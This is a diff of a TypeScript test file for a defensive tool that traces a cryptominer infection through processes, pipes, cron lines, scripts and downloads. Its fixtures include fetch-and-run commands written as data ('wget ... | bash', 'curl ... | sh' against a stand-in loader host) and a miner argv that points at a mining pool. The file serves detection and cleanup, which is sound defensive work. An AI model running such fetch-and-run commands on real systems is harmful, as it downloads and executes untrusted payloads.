@@ -37,30 +37,33 @@ function mined(path: string, more: Partial<Snapshot> = {}, miner: Partial<Proces
 }
 
 describe('links of the procedure’s infection', () => {
-  for (const minerParent of ['guard', 'init'] as const) {
-    it(`reach guard, loader, fetcher, both spools and three files, miner’s parent being ${minerParent}`, () => {
-      const links = linksOf(infectedSnapshot({ minerParent }));
-      expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.guard, pid.loader, pid.fetcher]);
-      expect(links.files.map((f) => f.path)).toEqual(['/tmp/ddg.2021', '/tmp/i.sh', '/tmp/wnTKYg']);
-      expect(links.cronLines.map((l) => `${l.path} ${l.number}`)).toEqual([
-        '/var/spool/cron/crontabs/root 2',
-        '/var/spool/cron/crontabs/root 3',
-        '/var/spool/cron/root 2',
-        '/var/spool/cron/root 3',
-      ]);
-      expect([...links.processes, ...links.files, ...links.cronLines].every((one) => one.selected)).toBe(
-        true,
-      );
-    });
-  }
+  it('reach guard, loader, both spools and three files; the fetcher is covered by its loader', () => {
+    const links = linksOf(infectedSnapshot());
+    expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.guard, pid.loader]);
+    expect(links.covered).toEqual([{ pid: pid.fetcher, by: pid.loader }]);
+    expect(links.files.map((f) => f.path)).toEqual(['/tmp/ddg.2021', '/tmp/i.sh', '/tmp/wnTKYg']);
+    expect(links.cronLines.map((l) => `${l.path} ${l.number}`)).toEqual([
+      '/var/spool/cron/crontabs/root 2',
+      '/var/spool/cron/crontabs/root 3',
+      '/var/spool/cron/root 2',
+      '/var/spool/cron/root 3',
+    ]);
+    expect([...links.processes, ...links.files, ...links.cronLines].every((one) => one.selected)).toBe(true);
+  });
+
+  it('do not reach a guard that is no ancestor of the miner: that it names the miner is a word', () => {
+    const links = linksOf(infectedSnapshot({ minerParent: 'init' }));
+    expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.loader]);
+    expect(links.cronLines.every((one) => one.selected && !one.linked)).toBe(true);
+  });
 
   it('each begin at the confirmed miner and add a sentence a hop', () => {
     const links = linksOf(infectedSnapshot({ minerParent: 'init' }));
     for (const link of [...links.processes, ...links.files, ...links.cronLines, ...links.downloads]) {
       expect(link.why[0]).toMatch(/^wnTKYg \(pid 1000, \/tmp\/wnTKYg\) is a confirmed miner: /);
       expect(link.why.every((sentence) => sentence.endsWith('.'))).toBe(true);
+      expect(link.kinds).toHaveLength(link.why.length);
     }
-    expect(byPid(links, pid.fetcher)?.role).toBe('fetcher');
     expect(byPid(links, pid.loader)?.role).toBe('loader');
   });
 });
@@ -126,7 +129,7 @@ describe('parents', () => {
     const of = (parent: Process) =>
       byPid(linksOf(mined('/opt/m/miner', { processes: [parent, piped(898)] }, { ppid: 899 })), 899);
     expect(of(command)).toMatchObject({ selected: true, role: 'loader' });
-    expect(of(session)).toMatchObject({ selected: false, role: 'parent' });
+    expect(of(session)).toBeUndefined();
   });
 
   it('that run a command which starts the miner are linked through it', () => {
@@ -142,29 +145,44 @@ describe('parents', () => {
 });
 
 describe('a miner that bears the name of a system program', () => {
-  it('has its file offered unticked; a packaged program of that name has not', () => {
-    const fake = linksOf(
-      mined(
-        '/usr/local/sbin/sshd',
-        {},
-        { image: image('/usr/local/sbin/sshd', { package: null }), cpuShare: 1 },
-      ),
+  const named = (more: Partial<Snapshot> = {}) =>
+    mined('/usr/local/sbin/sshd', more, {
+      image: image('/usr/local/sbin/sshd', { package: null }),
+      argv: ['/usr/local/sbin/sshd', '-o', `stratum+tcp://${POOL}:3333`],
+    });
+  it('has its file ticked where its own bytes show mining, else offered with a warning', () => {
+    expect(linksOf(named()).files).toMatchObject([{ path: '/usr/local/sbin/sshd', selected: true }]);
+    const packed = linksOf({ ...named(), files: [elf('/usr/local/sbin/sshd', 'UPX!')] });
+    expect(packed.miners).toEqual([900]);
+    expect(packed.files).toMatchObject([{ path: '/usr/local/sbin/sshd', selected: false }]);
+    expect(packed.files[0]?.caution).toContain('Make sure');
+  });
+  it('has its file left to its package where one brought it', () => {
+    const packaged = mined(
+      '/usr/sbin/xmrig',
+      {},
+      { image: image('/usr/sbin/xmrig', { package: 'xmrig' }), cpuShare: 1 },
     );
-    expect(fake.miners).toEqual([900]);
-    expect(fake.files).toMatchObject([{ path: '/usr/local/sbin/sshd', selected: false }]);
-    expect(fake.files[0]?.caution).toContain('Make sure');
-    const real = { package: 'openssh-server' };
-    const packaged = mined('/usr/sbin/sshd', {}, { image: image('/usr/sbin/sshd', real), cpuShare: 1 });
-    expect(linksOf(packaged).files).toEqual([]);
+    const links = linksOf(packaged);
+    expect(links.processes).toMatchObject([{ pid: 900, selected: true }]);
+    expect(links.files).toMatchObject([{ path: '/usr/sbin/xmrig', selected: false, linked: true }]);
   });
 });
 
 describe('children and pipes', () => {
-  it('descendants of a linked process are linked', () => {
+  it('descendants of a linked process are covered by it, and programs of their own are targets', () => {
     const child = process({ pid: 901, ppid: 900, exe: '/usr/bin/sleep' });
     const grandchild = process({ pid: 902, ppid: 901, exe: '/usr/bin/sleep' });
-    const links = linksOf(mined('/tmp/m', { processes: [child, grandchild] }));
-    expect(links.processes.map((p) => p.pid)).toEqual([900, 901, 902]);
+    const own = process({ pid: 903, ppid: 902, exe: '/tmp/other' });
+    const links = linksOf(mined('/tmp/m', { processes: [child, grandchild, own] }));
+    expect(links.processes.map((p) => [p.pid, p.role])).toEqual([
+      [900, 'miner'],
+      [903, 'child'],
+    ]);
+    expect(links.covered).toEqual([
+      { pid: 901, by: 900 },
+      { pid: 902, by: 900 },
+    ]);
   });
 
   it('a shell that reads the pipe of a linked fetcher is linked as reader', () => {
@@ -180,16 +198,12 @@ describe('children and pipes', () => {
     expect(byPid(linksOf({ ...snapshot, processes: [...processes, reader] }), 1500)?.role).toBe('reader');
   });
 
-  it('who writes the log of the service that the miner came in through is offered unticked and leads nowhere', () => {
+  it('who writes the log of the service that the miner came in through is not offered', () => {
     for (const exe of ['/usr/bin/tee', '/opt/apache/bin/rotatelogs', '/usr/bin/s6-log']) {
       const log = process({ pid: 901, exe, argv: [exe, '/srv/log'], stdin: 'pipe:[77]', pipes: ['77'] });
       const started = process({ pid: 902, ppid: 901, exe: '/usr/bin/gzip' });
       const links = linksOf(mined('/tmp/m', { processes: [log, started] }, { pipes: ['77'] }));
-      expect(byPid(links, 901), exe).toMatchObject({
-        role: 'reader',
-        selected: false,
-        caution: 'It only reads what this writes; it may be the log of the service.',
-      });
+      expect(byPid(links, 901), exe).toBeUndefined();
       expect(byPid(links, 902)).toBeUndefined();
     }
   });
@@ -200,7 +214,7 @@ describe('children and pipes', () => {
     const of = (argv: string[]) =>
       byPid(linksOf(mined('/tmp/m', { processes: [reader(argv)] }, { pipes: ['77'] })), 901);
     expect(of(['python3', '-'])).toMatchObject({ selected: true, role: 'reader' });
-    expect(of(['python3', '/opt/logs/ship.py'])).toMatchObject({ selected: false, role: 'reader' });
+    expect(of(['python3', '/opt/logs/ship.py'])).toBeUndefined();
   });
 
   it('a standard input that both inherited links nothing', () => {
@@ -242,7 +256,7 @@ describe('images', () => {
 });
 
 describe('names', () => {
-  it('a cron line that runs the miner is linked; one that only names it is offered unticked', () => {
+  it('a cron line that runs the miner is linked; one that only names it is not', () => {
     const cronFiles = [
       crontab('/var/spool/cron/crontabs/root', [
         '@reboot /opt/m/miner -q',
@@ -250,21 +264,20 @@ describe('names', () => {
       ]),
     ];
     const links = linksOf(mined('/opt/m/miner', { cronFiles }));
-    expect(links.cronLines).toMatchObject([
-      { number: 1, selected: true },
-      { number: 2, selected: false },
-    ]);
+    expect(links.cronLines).toMatchObject([{ number: 1, selected: true }]);
+    expect(links.cronLines).toHaveLength(1);
   });
 
-  it('a tool that names the miner is offered unticked, a script in /tmp that does is linked', () => {
+  it('a tool that names the miner is not linked, a script that starts it is, wherever it lies', () => {
     const files = [
       file('/opt/edr/rules.sh', '#!/bin/sh\nrm -f /opt/m/miner\n'),
       file('/tmp/.k/start', '#!/bin/sh\n/opt/m/miner &\n'),
+      file('/srv/k/start', '#!/bin/sh\ncd /opt/m && nohup ./miner &\n'),
     ];
     const links = linksOf(mined('/opt/m/miner', { files }));
     expect(links.files.map((f) => [f.path, f.selected])).toEqual([
-      ['/opt/edr/rules.sh', false],
       ['/opt/m/miner', true],
+      ['/srv/k/start', true],
       ['/tmp/.k/start', true],
     ]);
   });
@@ -279,7 +292,7 @@ describe('names', () => {
       mined('/tmp/m', { processes: [agent], files: [loader, elf('/opt/cloudmonitor/agent')] }),
     );
     expect(byPid(links, 901)).toBeUndefined();
-    expect(links.files.find((f) => f.path === '/opt/cloudmonitor/agent')?.selected).toBe(false);
+    expect(links.files.map((f) => f.path)).toEqual(['/tmp/i.sh', '/tmp/m']);
   });
 
   it('a crontab that a loader writes to is no file to delete', () => {
@@ -321,14 +334,12 @@ describe('downloads', () => {
   });
 
   it('another port, another scheme, or a fetch that runs nothing is not', () => {
-    for (const command of [
-      `wget -qO- http://${LOADER}/zz | bash`,
-      `wget -qO- https://${LOADER}:8443/zz | bash`,
-    ]) {
-      expect(
-        linksOf(mined('/opt/m/miner', { files: [loader], cronFiles: line(command) })).cronLines,
-      ).toMatchObject([{ selected: false }]);
-    }
+    const other = (command: string) =>
+      linksOf(mined('/opt/m/miner', { files: [loader], cronFiles: line(command) })).cronLines;
+    expect(other(`wget -qO- http://${LOADER}/zz | bash`)).toMatchObject([{ linked: false, selected: true }]);
+    expect(other(`wget -qO- https://${LOADER}:8443/zz | bash`)).toMatchObject([
+      { linked: false, selected: false },
+    ]);
     expect(
       linksOf(
         mined('/opt/m/miner', {
@@ -352,7 +363,7 @@ describe('downloads', () => {
     expect(of('other').cronLines).toMatchObject([{ selected: false }]);
   });
 
-  it('the shell that cron started from a linked line is linked, with its children', () => {
+  it('the shell that cron started from a ticked line is ticked, and covers its children', () => {
     const command = `curl -fsSL http://${LOADER}:8443/i.sh | sh`;
     const processes = [
       process({ pid: 950, ppid: 300, exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', command] }),
@@ -366,7 +377,7 @@ describe('downloads', () => {
     const snapshot = infectedSnapshot();
     const links = linksOf({ ...snapshot, processes: [...snapshot.processes, ...processes] });
     expect(byPid(links, 950)?.role).toBe('loader');
-    expect(byPid(links, 951)?.selected).toBe(true);
+    expect(links.covered).toContainEqual({ pid: 951, by: 950 });
   });
 
   it('a fetch-and-run line that nothing links is offered unticked, with the reason', () => {
@@ -413,7 +424,7 @@ describe('content that is next to nothing', () => {
     const running = process({ pid: 901, exe: '/usr/bin/dash', argv: ['sh', '/tmp/ddg.lock'] });
     const snapshot = mined('/tmp/m', { processes: [running], files: [starter, named, ...others] });
     const links = linksOf(snapshot);
-    expect(links.files.map((f) => f.path)).toEqual(['/tmp/ddg.lock', '/tmp/i.sh', '/tmp/m']);
+    expect(links.files.map((f) => f.path)).toEqual(['/tmp/i.sh', '/tmp/m']);
   });
 
   it('links no other process by its hash', () => {
